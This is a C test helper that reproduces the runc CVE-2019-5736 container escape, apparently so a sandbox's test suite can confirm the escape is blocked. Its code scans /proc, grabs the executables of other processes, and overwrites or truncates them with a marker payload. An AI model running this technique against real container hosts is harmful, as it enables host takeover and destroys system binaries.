/* The exec-helper overwrite attack (runc CVE-2019-5736), run inside a sandbox by
 * crates/crab/tests/escapes.rs. For SECONDS seconds it scans /proc for processes whose
 * executable is not its own, keeps an O_PATH descriptor of each such /proc/<pid>/exe, and
 * tries, again and again (a binary being executed refuses writes with ETXTBSY until its last
 * user exits), to reopen each one for writing and write a payload over its first bytes. It
 * prints one line per descriptor it got and per write that landed; exit 0 either way.
 *
 * Run as `overwrite_helper start SECONDS` (it detaches and logs to /tmp/attack.log),
 * `overwrite_helper report` (waits for the log's end and prints it) and `overwrite_helper noop`
 * (exit 0: the command the test execs to make the daemon run its helper). Built static by the test (gcc -static), so it needs nothing from the image. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_FDS 256

static int fds[MAX_FDS];
static int nfds;
static int reported[MAX_FDS];

static int known(int fd) {
    char a[64], b[64];
    snprintf(a, sizeof a, "/proc/self/fd/%d", fd);
    for (int i = 0; i < nfds; i++) {
        snprintf(b, sizeof b, "/proc/self/fd/%d", fds[i]);
        char la[4096], lb[4096];
        ssize_t x = readlink(a, la, sizeof la - 1), y = readlink(b, lb, sizeof lb - 1);
        if (x > 0 && y > 0 && x == y && memcmp(la, lb, x) == 0)
            return 1;
    }
    return 0;
}

static int report(void) {
    /* Wait for the attack's log to end, then print it. */
    for (int tries = 0; tries < 600; tries++) {
        char buf[65536];
        int fd = open("/tmp/attack.log", O_RDONLY);
        ssize_t n = fd < 0 ? 0 : read(fd, buf, sizeof buf - 1);
        if (fd >= 0)
            close(fd);
        if (n > 0) {
            buf[n] = 0;
            if (strstr(buf, "done:")) {
                fputs(buf, stdout);
                return 0;
            }
        }
        usleep(100000);
    }
    puts("no report");
    return 1;
}

int main(int argc, char **argv) {
    if (argc > 1 && strcmp(argv[1], "noop") == 0)
        return 0;
    if (argc > 1 && strcmp(argv[1], "report") == 0)
        return report();
    int seconds = argc > 2 ? atoi(argv[2]) : 10;
    /* `start SECONDS`: detach, as a real attacker's `nohup … &` would, so the exec that
     * started it ends and its helper is no longer being executed. */
    unlink("/tmp/attack.log");
    if (fork() != 0)
        return 0;
    setsid();
    if (!freopen("/tmp/attack.log", "w", stdout))
        return 1;
    int null = open("/dev/null", O_RDWR);
    if (null >= 0) {
        dup2(null, 0);
        dup2(null, 2);
    }
    char self[4096];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n < 0)
        return 1;
    self[n] = 0;
    time_t end = time(NULL) + seconds;
    int wrote = 0;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9')
                continue;
            char p[300], target[4096];
            snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
            ssize_t m = readlink(p, target, sizeof target - 1);
            if (m < 0)
                continue;
            target[m] = 0;
            if (strcmp(target, self) == 0 || strstr(target, "overwrite_helper"))
                continue;
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue;
            if (nfds < MAX_FDS && !known(fd)) {
                fds[nfds++] = fd;
                printf("got %s -> %s\n", p, target);
                fflush(stdout);
            } else {
                close(fd);
            }
        }
        if (d)
            closedir(d);
        for (int i = 0; i < nfds; i++) {
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
            int w = open(p, O_WRONLY | O_CLOEXEC);
            if (w < 0) {
                if (errno != ETXTBSY && !reported[i]) {
                    reported[i] = 1;
                    printf("cannot open %s for writing: %s\n", p, strerror(errno));
                    fflush(stdout);
                }
                continue;
            }
            static const char payload[] = "#!/bin/sh\necho PWNED > /tmp/crab-pwned\n";
            ssize_t put = pwrite(w, payload, sizeof payload - 1, 0);
            if (put < 0 && !reported[i]) {
                reported[i] = 1;
                printf("cannot write %s: %s\n", p, strerror(errno));
                fflush(stdout);
            }
            if (put == (ssize_t)(sizeof payload - 1)) {
                printf("WROTE %s\n", p);
                fflush(stdout);
                wrote++;
            }
            if (ftruncate(w, 0) == 0) {
                printf("TRUNCATED %s\n", p);
                fflush(stdout);
                wrote++;
            }
            close(w);
        }
    }
    printf("done: %d descriptors, %d writes\n", nfds, wrote);
    return 0;
}
